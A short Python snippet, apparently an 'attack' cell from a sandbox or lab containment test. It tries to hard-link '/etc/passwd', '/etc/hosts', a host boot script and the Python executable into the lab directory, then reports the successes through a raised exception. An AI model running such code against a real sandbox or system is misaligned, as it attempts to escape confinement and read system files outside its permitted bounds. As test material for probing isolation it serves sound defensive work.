# Links files of the outside into the lab.
# %% attack
import os
linked = []
for path in ("/etc/passwd", "/etc/hosts", "/opt/lab/lab_guest/boot.py", os.sys.executable):
    try:
        os.link(path, os.path.basename(path))
        linked.append(path)
    except OSError:
        pass
raise RuntimeError(str(linked))
